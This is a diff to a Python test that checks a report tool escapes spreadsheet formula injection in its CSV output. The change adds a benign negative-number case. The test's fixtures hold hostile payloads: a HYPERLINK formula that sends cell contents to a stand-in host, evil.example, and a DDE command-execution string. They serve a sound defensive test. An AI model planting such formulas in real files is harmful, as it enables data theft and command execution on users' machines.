@@ -375,11 +375,12 @@ def test_spreadsheet_formulas_from_a_run_folder_reach_report_csv_as_text(tmp_pat
     write_run(root / "0", ['activation==HYPERLINK("http://evil.example/?"&A1,"x")'], norms=geometric(0.5))
     write_run(root / "1", ["activation=-cmd|' /C calc'!A0"], status="@SUM(1+1)", norms=geometric(0.9))
     write_run(root / "2", ["activation=-"], norms=geometric(0.9))
+    write_run(root / "3", ["activation=-1e-3"], norms=geometric(0.9))
     assert main([str(root), "--format", "csv"]) == 0
     cells = [cell for row in csv.reader((root / "report.csv").read_text().splitlines()) for cell in row]
     assert not any(cell[:1] in ("=", "@") or cell.startswith("-cmd") for cell in cells), cells
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells and "'-cmd|' /C calc'!A0" in cells
-    assert "-" in cells
+    assert "-" in cells and "-1e-3" in cells
 
 
 def test_json_output_is_strict_json_and_huge_values_fold_without_overflow(tmp_path, capsys, no_figure):
